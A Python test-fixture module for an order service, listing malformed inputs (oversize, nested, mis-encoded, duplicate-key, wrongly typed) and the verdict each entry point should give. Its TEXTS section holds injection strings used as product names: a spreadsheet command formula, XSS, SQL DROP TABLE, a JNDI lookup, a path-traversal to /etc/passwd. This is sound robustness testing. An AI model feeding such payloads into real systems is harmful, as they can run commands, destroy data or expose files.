"""Bad input, by name: how a good document is spoilt, at which doors, and what each door must say.

The same spoiling fits the event on the bus, the body at the interface and the line of a file: all three hold the order.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.builders import make_body, make_line, make_order, make_receiver

LIMIT = 256 * 1024
LONGEST_LINE = 1024 * 1024
TAKEN, REJECTED = "taken", "rejected"

PERSON = {"name": "张伟", "phone": "13800138000", "city": "杭州市", "address": "文一西路 1 号"}
LINE = {"sku": "TEA-250", "name": "明前龙井", "quantity": 2, "unit_price": 1250}

CUSTOMER, CHANNEL, VIP = '"customer_id":"C-1"', '"channel":"jd"', '"vip":false'
SKU, NAME, QUANTITY, PRICE = '"sku":"TEA-250"', '"name":"明前龙井"', '"quantity":2', '"unit_price":1250'
RECEIVER, PHONE, TOTAL = '"name":"张伟"', '"phone":"13800138000",', '"total":2500'
PAID, TIME = '"type":"com.orderhub.order.paid.v1"', '"time":"2026-03-01T04:05:06.789000Z"'
RECORDED, PLACED = '"recordedtime":"2026-03-01T04:05:06.789000Z"', '"placed_at":"2026-03-01T04:05:06.789000Z"'
SEQUENCE, VERSION, WHEN = '"sequence":"0000000002"', '"version":2', "2026-11-01T10:56:00+08:00"

Spoil = Callable[[bytes], bytes]


@dataclass(frozen=True)
class Case:
    """`names` is the word by which a door says what is wrong. A door without a verdict is not for this case.

    `bus`: a reason, or TAKEN. `api`: a status, 201 where it is taken. `file`: REJECTED or TAKEN.
    """

    spoil: Spoil
    names: str = "body"
    bus: str = ""
    api: int = 0
    file: str = ""


def event(number: str) -> bytes:
    """A good event of an order."""
    order = make_order(
        order_no=number, channel_order_no=number, receiver=make_receiver(**PERSON), lines=[make_line(**LINE)]
    )
    return make_body(order=order, id=f"event-{number}")


def body(number: str) -> bytes:
    """A good request for a new order."""
    return _compact(_content(number) | {"receiver": PERSON, "lines": [LINE]})


def line(number: str) -> bytes:
    """A good line of a file."""
    return _compact(_content(number) | {"lines": [LINE | {"unit_price": "12.50"}], "history": [["created", WHEN]]})


def order_in(document: bytes) -> dict[str, Any]:
    """The order in any of the three."""
    whole: dict[str, Any] = json.loads(document)
    return dict(whole["data"]["order"]) if "data" in whole else whole


def _content(number: str) -> dict[str, Any]:
    return {"channel": "jd", "channel_order_no": number, "customer_id": "C-1", "vip": False}


def _compact(document: Any) -> bytes:
    return json.dumps(document, ensure_ascii=False, separators=(",", ":")).encode()


def swapped(old: str, new: str) -> Spoil:
    """One text for another."""

    def spoil(document: bytes) -> bytes:
        assert old.encode() in document, f"{old} is not there to be spoilt"
        return document.replace(old.encode(), new.encode(errors="surrogatepass"))

    return spoil


def always(content: bytes) -> Spoil:
    """Something else in the place of the document."""
    return lambda _: content


def padded(size: int) -> Spoil:
    """The document and blanks, up to a size."""
    return lambda document: document.ljust(size)


def without(*path: str) -> Spoil:
    """A field less."""

    def spoil(document: bytes) -> bytes:
        whole = inner = json.loads(document)
        for step in path[:-1]:
            inner = inner[step]
        del inner[path[-1]]
        return _compact(whole)

    return spoil


def repeated(count: int, **fields: Any) -> Spoil:
    """The line so many times, with the total that belongs to it."""

    def spoil(document: bytes) -> bytes:
        whole = json.loads(document)
        order = whole["data"]["order"] if "data" in whole else whole
        order["lines"] = [order["lines"][0] | fields] * count
        if "total" in order:
            order["total"] *= count
        return _compact(whole)

    return spoil


def _wrong(old: str, new: str, names: str) -> Case:
    return Case(swapped(old, new), names, bus="invalid", api=422, file=REJECTED)


def _wrong_quantity(new: str) -> Case:
    return _wrong(QUANTITY, f'"quantity":{new}', "lines.0.quantity")


def _wrong_name(name: str) -> Case:
    return _wrong(NAME, f'"name":{json.dumps(name)}', "lines.0.name")


def _wrong_price(new: str) -> Case:
    return Case(swapped(PRICE, f'"unit_price":{new}'), "lines.0.unit_price", bus="invalid", api=422)


def _wrong_person(old: str, new: str, names: str) -> Case:
    return Case(swapped(old, new), names, bus="invalid", api=422)


def _no_number(new: str) -> Case:
    return Case(swapped(QUANTITY, f'"quantity":{new}'), "lines.0.quantity", bus="invalid", file=REJECTED)


def _no_number_at_the_interface(new: str) -> Case:
    # What is no JSON is read no further there, so that no field is named.
    return Case(swapped(QUANTITY, f'"quantity":{new}'), f"{new} is not JSON", api=400)


def _no_json(spoil: Spoil) -> Case:
    return Case(spoil, bus="not_json", api=400, file=REJECTED)


def _no_text(spoil: Spoil) -> Case:
    return Case(spoil, bus="not_utf8", api=400, file=REJECTED)


def _no_object(content: bytes) -> Case:
    return Case(always(content), bus="not_json", api=422, file=REJECTED)


def _twice(old: str, new: str, key: str) -> Case:
    return Case(swapped(old, new), f"key '{key}' stands twice", bus="not_json", api=400, file=REJECTED)


def _event(old: str, new: str, names: str, reason: str = "invalid") -> Case:
    return Case(swapped(old, new), names, bus=reason)


def _added(value: str) -> Case:
    # What a later minor version adds is passed over on the bus; who sends to us is told that we would not keep it.
    return Case(swapped(VIP, f'{VIP},"added":{value}'), "added", bus=TAKEN, api=422, file=REJECTED)


def _kept(name: str) -> Case:
    return Case(swapped(NAME, f'"name":{json.dumps(name, ensure_ascii=False)}'), bus=TAKEN, api=201, file=TAKEN)


SIZES = {
    "nothing at all": Case(always(b""), bus="not_json", api=422, file=REJECTED),
    "nothing but blanks": Case(always(b"   "), bus="not_json", api=400, file=REJECTED),
    "one byte over 256 KiB": Case(padded(LIMIT + 1), "over the limit", bus="too_large", api=413, file=TAKEN),
    "1 MiB and more": Case(padded(LONGEST_LINE + 1024), "over the limit", bus="too_large", api=413, file=REJECTED),
    "1 MiB of one letter": Case(always(b"a" * LONGEST_LINE), bus="too_large", api=413, file=REJECTED),
    "256 KiB to the byte": Case(padded(LIMIT), bus=TAKEN, api=201, file=TAKEN),
    "1,000 lines": Case(repeated(1000), bus=TAKEN, api=201, file=TAKEN),
    "1,001 lines": Case(repeated(1001), "lines", bus="invalid", api=422, file=REJECTED),
    "1,000 lines of long names": Case(
        repeated(1000, name="茶" * 250), "over the limit", bus="too_large", api=413, file=REJECTED
    ),
    "a name of 256 letters": _kept("茶" * 256),
    "a name of 257 letters": _wrong(NAME, f'"name":"{"茶" * 257}"', "lines.0.name"),
    "a customer of 65 letters": _wrong(CUSTOMER, f'"customer_id":"{"C" * 65}"', "customer_id"),
}

DEPTHS = {
    "100,000 brackets": _no_json(always(b"[" * 100_000)),
    "100,000 brackets and as many back": _no_json(always(b"[" * 100_000 + b"]" * 100_000)),
    "50,000 braces": _no_json(always(b'{"a":' * 50_000)),
    "5,000 brackets where a name belongs": _no_json(swapped(NAME, f'"name":{"[" * 5000}{"]" * 5000}')),
    "5,000 brackets in an added field": _no_json(swapped(VIP, f'{VIP},"added":{"[" * 5000}{"]" * 5000}')),
    "100 brackets in an added field": _added(f"{'[' * 100}{']' * 100}"),
}

ENCODINGS = {
    "UTF-16": Case(lambda document: document.decode().encode("utf-16"), bus="not_utf8", api=400),
    "UTF-32": Case(lambda document: document.decode().encode("utf-32"), bus="not_utf8", api=400),
    "GB 18030": _no_text(lambda document: document.decode().encode("gb18030")),
    "gzip": Case(lambda document: gzip.compress(document, mtime=0), bus="not_utf8", api=400),
    "a byte order mark": _no_json(lambda document: b"\xef\xbb\xbf" + document),
    "a letter that is cut": _no_text(lambda document: document.replace("明".encode(), b"\xe6\x98")),
    "an overlong letter": _no_text(lambda document: document.replace("明".encode(), b"\xc0\xaf")),
    "a surrogate in UTF-8": _no_text(swapped(NAME, '"name":"\ud83d"')),
    "a letter beyond Unicode": _no_text(lambda document: document.replace("明".encode(), b"\xf4\x90\x80\x80")),
    "half a document": _no_json(lambda document: document[:-9]),
    "cut within a letter": _no_text(lambda document: document[: document.index("明".encode()) + 2]),
    "two documents": _no_json(lambda document: document * 2),
    "a brace too many": _no_json(lambda document: document + b"}"),
    "a comma too many": _no_json(swapped(QUANTITY, f"{QUANTITY},")),
    "a comment": _no_json(swapped(QUANTITY, f"/* two */{QUANTITY}")),
    "single quotes": _no_json(lambda document: document.replace(b'"', b"'")),
    "a line break in a name": Case(swapped(NAME, '"name":"明前\n龙井"'), bus="not_json", api=400),
    "a form": _no_json(always(b"channel=jd&customer_id=C-1")),
    "null": _no_object(b"null"),
    "a list": _no_object(b"[]"),
    "a word": _no_object(b'"order"'),
    "a number": _no_object(b"7"),
}

NUMBERS = {
    "NaN": _no_number("NaN"),
    "infinity": _no_number("Infinity"),
    "minus infinity": _no_number("-Infinity"),
    "NaN at the interface": _no_number_at_the_interface("NaN"),
    "infinity at the interface": _no_number_at_the_interface("Infinity"),
    "minus infinity at the interface": _no_number_at_the_interface("-Infinity"),
    "NaN in an added field": Case(swapped(VIP, f'{VIP},"added":NaN'), bus="not_json", api=400),
    "infinity in an added field": Case(swapped(VIP, f'{VIP},"added":[-Infinity]'), bus="not_json", api=400),
    "1e400": _wrong_quantity("1e400"),
    "1e400 in an added field": _added("1e400"),
    "5,000 digits": _no_json(swapped(QUANTITY, f'"quantity":{"9" * 5000}')),
    "5,000 digits in an added field": _no_json(swapped(VIP, f'{VIP},"added":{"9" * 5000}')),
    "10^18 pieces": _wrong_quantity(str(10**18)),
    "2^63 pieces": _wrong_quantity(str(2**63)),
    "a million and one": _wrong_quantity("1000001"),
    "a negative quantity": _wrong_quantity("-2"),
    "no pieces": _wrong_quantity("0"),
    "minus no pieces": _wrong_quantity("-0"),
    "a whole float": _wrong_quantity("2.0"),
    "half a piece": _wrong_quantity("2.5"),
    "an exponent": _wrong_quantity("2e0"),
    "a leading zero": _no_json(swapped(QUANTITY, '"quantity":02')),
    "a plus sign": _no_json(swapped(QUANTITY, '"quantity":+2')),
    "hexadecimal": _no_json(swapped(QUANTITY, '"quantity":0x2')),
    "a bare underscore": _no_json(swapped(QUANTITY, '"quantity":1_000')),
    "a negative price": _wrong_price("-1"),
    "a fraction of a fen": _wrong_price("12.5"),
    "a price that is a whole float": _wrong_price("1250.0"),
    "a price of 10^18": _wrong_price(str(10**18)),
    "more money than there is": Case(repeated(1, quantity=10**6, unit_price=10**14), "lines", bus="invalid", api=422),
}

KEYS = {
    "the quantity twice": _twice(QUANTITY, '"quantity":1,"quantity":2', "quantity"),
    "the quantity twice the same": _twice(QUANTITY, f"{QUANTITY},{QUANTITY}", "quantity"),
    "the quantity twice, once escaped": _twice(QUANTITY, f'{QUANTITY},"quantit\\u0079":9', "quantity"),
    "the customer twice": _twice(CUSTOMER, f'"customer_id":"C-2",{CUSTOMER}', "customer_id"),
    "the customer twice, the first one wrong": _twice(CUSTOMER, f'"customer_id":[],{CUSTOMER}', "customer_id"),
    "the lines twice": _twice('"lines":[', '"lines":[],"lines":[', "lines"),
    "the receiver's phone twice": Case(
        swapped(PHONE, f'{PHONE}"phone":"13900139000",'), "key 'phone' stands twice", bus="not_json", api=400
    ),
    "an added field twice": Case(
        swapped(VIP, f'{VIP},"added":{{"x":1,"x":2}}'), "key 'x' stands twice", bus="not_json", api=400
    ),
    "a key that is a phone, twice": Case(
        swapped(VIP, f'{VIP},"13800138000":1,"13800138000":2'), "a key stands twice", bus="not_json", api=400
    ),
    "the subject twice": _event('"subject":', '"subject":"SO-0","subject":', "key 'subject' stands twice", "not_json"),
    "the type twice": _event(
        PAID, f'"type":"com.orderhub.order.paid.v2",{PAID}', "key 'type' stands twice", "not_json"
    ),
    "the data twice": _event('"data":', '"data":{},"data":', "key 'data' stands twice", "not_json"),
}

TYPES = {
    "a quantity that is text": _wrong_quantity('"2"'),
    "a quantity that is truth": _wrong_quantity("true"),
    "a quantity with an underscore": _wrong_quantity('"1_000"'),
    "a quantity in full-width digits": _wrong_quantity('"２"'),
    "a quantity that is null": _wrong_quantity("null"),
    "a quantity that is a list": _wrong_quantity("[2]"),
    "a quantity that is an object": _wrong_quantity('{"value":2}'),
    "a price that is text": _wrong_price('"1250"'),
    "vip that is text": _wrong(VIP, '"vip":"no"', "vip"),
    "vip that is a number": _wrong(VIP, '"vip":0', "vip"),
    "a customer that is a number": _wrong(CUSTOMER, '"customer_id":7', "customer_id"),
    "a customer that is a list": _wrong(CUSTOMER, '"customer_id":["C-1"]', "customer_id"),
    "a customer that is null": _wrong(CUSTOMER, '"customer_id":null', "customer_id"),
    "a name that is a number": _wrong(NAME, '"name":7', "lines.0.name"),
    "a name that is nothing": _wrong_name(""),
    "lines that are text": _wrong('"lines":[{', '"lines":"[{}]","line":[{', "lines"),
    "lines that are none": Case(repeated(0), "lines", bus="invalid", api=422, file=REJECTED),
    "a line that is a number": _wrong('"lines":[', '"lines":[7,', "lines.0"),
    "a line that is null": _wrong('"lines":[', '"lines":[null,', "lines.0"),
    "a line that is a list": _wrong('"lines":[', '"lines":[[],', "lines.0"),
    "a channel with a dot": _wrong(CHANNEL, '"channel":"jd.evil"', "channel"),
    "a channel that binds everything": _wrong(CHANNEL, '"channel":"#"', "channel"),
    "a channel in capitals": _wrong(CHANNEL, '"channel":"JD"', "channel"),
    "a customer with a line break": _wrong(CUSTOMER, '"customer_id":"C-1\\n"', "customer_id"),
    "a customer with a blank": _wrong(CUSTOMER, '"customer_id":"C 1"', "customer_id"),
    "an SKU with a blank at its end": _wrong(SKU, '"sku":"TEA "', "lines.0.sku"),
    "a receiver that is text": Case(
        swapped('"receiver":{', '"receiver":"张伟","added":{'), "receiver", bus="invalid", api=422
    ),
    "a currency in small letters": _event('"currency":"CNY"', '"currency":"cny"', "currency"),
    "data that are a list": _event('"data":{', '"data":[],"added":{', "data"),
    "data that are null": _event('"data":{', '"data":null,"added":{', "data"),
    "a subject that is a number": _event('"subject":"', '"subject":7,"added":"', "subject"),
    "a sequence that is a number": _event(SEQUENCE, '"sequence":2', "sequence"),
    "a sequence in full-width digits": _event(SEQUENCE, '"sequence":"０00000000２"', "sequence"),
    "a version that is text": _event(VERSION, '"version":"2"', "version"),
    "a version of 2^31": _event(VERSION, f'"version":{2**31}', "version"),
    "version 0": _event(VERSION, '"version":0', "version"),
    "a status that is none": _event('"status":"paid"', '"status":"flown"', "status"),
}

MISSING = {
    "no customer": Case(swapped(f"{CUSTOMER},", ""), "customer_id", bus="invalid", api=422, file=REJECTED),
    "no channel": Case(swapped(f"{CHANNEL},", ""), "channel", bus="invalid", api=422, file=REJECTED),
    "no quantity": Case(swapped(f"{QUANTITY},", ""), "lines.0.quantity", bus="invalid", api=422, file=REJECTED),
    "no lines": Case(swapped('"lines":', '"no_lines":'), "lines", bus="invalid", api=422, file=REJECTED),
    "a receiver without a phone": _wrong_person(PHONE, "", "receiver.phone"),
    "an empty object": Case(always(b"{}"), "channel_order_no", api=422, file=REJECTED),
    "an empty event": Case(always(b"{}"), "type: Field required", bus="invalid"),
    **{
        f"an event without {name}": Case(without(name), name, bus="invalid")
        for name in ("id", "type", "subject", "time", "recordedtime", "dataschema", "sequence", "partitionkey", "data")
    },
    **{
        f"an event without data.{'.'.join(path)}": Case(without("data", *path), path[-1], bus="invalid")
        for path in [("change",), ("order",), ("order", "order_no"), ("order", "version"), ("order", "total")]
    },
}

CONTRADICTIONS = {
    "another subject": _event('"subject":"', '"subject":"X', "contradicts"),
    "another sequence": _event(SEQUENCE, '"sequence":"0000000003"', "contradicts"),
    "another partition": _event('"partitionkey":"', '"partitionkey":"X', "contradicts"),
    "another type": _event(PAID, '"type":"com.orderhub.order.shipped.v1"', "contradicts"),
    "another change": _event('"change":"paid"', '"change":"shipped"', "contradicts"),
    "another version": _event(VERSION, '"version":3', "contradicts"),
    "another number": _event('"order_no":"', '"order_no":"X', "contradicts"),
    "a total that is not the sum": _event(TOTAL, '"total":2501', "lines add up"),
    "a total of nothing": _event(TOTAL, '"total":0', "lines add up"),
    "a negative total": _event(TOTAL, '"total":-2500', "total"),
    "a total that is text": _event(TOTAL, '"total":"2500"', "total"),
}

VERSIONS = {
    "the next major version": _event(PAID, '"type":"com.orderhub.order.paid.v2"', "type", "unknown_type"),
    "a major version of 100 digits": _event(
        PAID, f'"type":"com.orderhub.order.paid.v{"1" * 100}"', "type", "unknown_type"
    ),
    "a version with a leading zero": _event(PAID, '"type":"com.orderhub.order.paid.v01"', "type", "unknown_type"),
    "no version": _event(PAID, '"type":"com.orderhub.order.paid"', "type", "unknown_type"),
    "a change that is none": _event(PAID, '"type":"com.orderhub.order.paused.v1"', "type", "unknown_type"),
    "the type of somebody else": _event(PAID, '"type":"com.example.invoice.v1"', "type", "unknown_type"),
    "a type in capitals": _event(PAID, '"type":"COM.ORDERHUB.ORDER.PAID.V1"', "type", "unknown_type"),
    "a type that is a number": _event(PAID, '"type":1', "type"),
    "a type that is null": _event(PAID, '"type":null', "type"),
    "an empty type": _event(PAID, '"type":""', "type"),
    "another CloudEvents": _event('"specversion":"1.0"', '"specversion":"0.3"', "specversion"),
    "data in another form": _event("application/json", "application/xml", "datacontenttype"),
    "an id of 65 letters": _event('"id":"', f'"id":"{"x" * 65}', "id"),
}

ADDED = {
    "an added field": _added("1"),
    "an added object": _added('{"later":[1,"x",null]}'),
    "an added field in a line": Case(
        swapped(QUANTITY, f'{QUANTITY},"gift":true'), "lines.0.gift", bus=TAKEN, api=422, file=REJECTED
    ),
    "an added field in the receiver": Case(
        swapped(PHONE, f'{PHONE}"email":"a@b.cn",'), "receiver.email", bus=TAKEN, api=422
    ),
    "an added attribute": Case(swapped('"id":"', '"later":{"x":[1]},"id":"'), bus=TAKEN),
    "an added fact": Case(swapped('"change":"paid"', '"change":"paid","later":1'), bus=TAKEN),
    "a status from a shop": Case(swapped(VIP, '"vip":false,"status":"completed"'), "status", api=422, file=REJECTED),
    "a total from a shop": Case(swapped(VIP, '"vip":false,"total":1'), "total", api=422, file=REJECTED),
}

TEXTS = {
    "a formula": _kept("=cmd|'/C calc'!A0"),
    "a formula that begins with a plus": _kept("+1+1"),
    "a formula that begins with an at": _kept('@SUM(1+1)*HYPERLINK("http://example.com")'),
    "a script": _kept("<img src=x onerror=alert(1)><script>alert('x')</script>"),
    "SQL": _kept("'; DROP TABLE orders; --"),
    "a template": _kept("{{7*7}} ${7*7} %(x)s %s %n {0.__class__}"),
    "a look-up": _kept("${jndi:ldap://example.com/a}"),
    "a path": _kept("../../../etc/passwd"),
    "an entity": _kept("&lt;b&gt; &#x0; ]]> <!DOCTYPE x>"),
    "backslashes and quotes": _kept("\\\\ \" ' \\u0000 \\x00"),
    "an emoji of several": _kept("👩‍👩‍👧‍👦 🏳️‍🌈 🍵"),
    "rare characters": _kept("𠮷野家 𪚥 㐂"),
    "combining marks": _kept("e\u0301 한글 Z͑ͫ̓a̴l̷g̸o"),
    "text from right to left": _kept("\u202etxt.exe\u202c \u2067שלום\u2069"),
    "letters without width": _kept("a\u200bb\u2060c\ufeff"),
    "line separators": _kept("a\u2028b\u2029c\u0085d"),
    "letters of nobody": _kept("\ue000\U000f0000\ufffd"),
    "blanks of every kind": _kept(" \u3000\u00a0 "),
    "full-width letters": _kept("＝ｃｍｄ｜２"),
    "a name in escapes": Case(
        swapped(NAME, '"name":"\\u660e\\u524d \\ud83c\\udf75 \\/"'), bus=TAKEN, api=201, file=TAKEN
    ),
    "a formula for a receiver": Case(swapped(RECEIVER, '"name":"=cmd|\'/C calc\'!A0"'), bus=TAKEN, api=201),
    "an emoji for a receiver": Case(swapped(RECEIVER, '"name":"👩‍👩‍👧 𠮷"'), bus=TAKEN, api=201),
    "a price of minus nothing": Case(
        lambda document: document.replace(PRICE.encode(), b'"unit_price":-0').replace(TOTAL.encode(), b'"total":-0'),
        bus=TAKEN,
        api=201,
    ),
    "NUL in an escape": _wrong_name("tea\x00"),
    "NUL as a byte": _no_json(swapped(NAME, '"name":"tea\x00"')),
    "NUL for a receiver": _wrong_person(RECEIVER, '"name":"\\u0000"', "receiver.name"),
    "NUL in an id": _event('"id":"', '"id":"\\u0000', "id"),
    "half a pair": _no_json(swapped(NAME, '"name":"\\ud83d"')),
    "a pair the wrong way round": _no_json(swapped(NAME, '"name":"\\udf75\\ud83c"')),
    "half a pair in an added field": _no_json(swapped(VIP, f'{VIP},"added":"\\ud83d"')),
    "a bell": _wrong_name("tea\x07"),
    "a colour of the terminal": _wrong_name("\x1b[31mtea"),
    "a delete": _wrong_name("tea\x7f"),
    "a letter that is none": _wrong_name("tea\uffff"),
    "a control character as a byte": _no_json(swapped(NAME, '"name":"tea\x07"')),
}

TIMES = {
    "a time without its zone": _event(TIME, '"time":"2026-03-01T04:05:06"', "time"),
    "a day": _event(TIME, '"time":"2026-03-01"', "time"),
    "the year 1": _event(RECORDED, '"recordedtime":"0001-01-01T00:00:00Z"', "recordedtime"),
    "the year 1 in a zone that makes it the year 0": _event(
        RECORDED, '"recordedtime":"0001-01-01T00:00:00+14:00"', "recordedtime"
    ),
    "the year 9999": _event(PLACED, '"placed_at":"9999-12-31T23:59:59Z"', "placed_at"),
    "the year 9999 in a zone that makes it 10000": _event(
        PLACED, '"placed_at":"9999-12-31T23:59:59-14:00"', "placed_at"
    ),
    "the year 10000": _event(TIME, '"time":"10000-01-01T00:00:00Z"', "time"),
    "the 30th of February": _event(TIME, '"time":"2026-02-30T00:00:00Z"', "time"),
    "the hour 25": _event(TIME, '"time":"2026-03-01T25:00:00Z"', "time"),
    "a zone of 99 hours": _event(TIME, '"time":"2026-03-01T00:00:00+99:00"', "time"),
    "seconds since 1970": _event(TIME, '"time":1772337906', "time"),
    "a time in words": _event(TIME, '"time":"yesterday"', "time"),
    "a step without its zone": Case(swapped(WHEN, "2026-11-01T10:56:00"), "history.0.1", file=REJECTED),
}

HOSTILE = (
    SIZES | DEPTHS | ENCODINGS | NUMBERS | KEYS | TYPES | MISSING | CONTRADICTIONS | VERSIONS | ADDED | TEXTS | TIMES
)
"""What is wrong, or only looks so, and what becomes of it."""
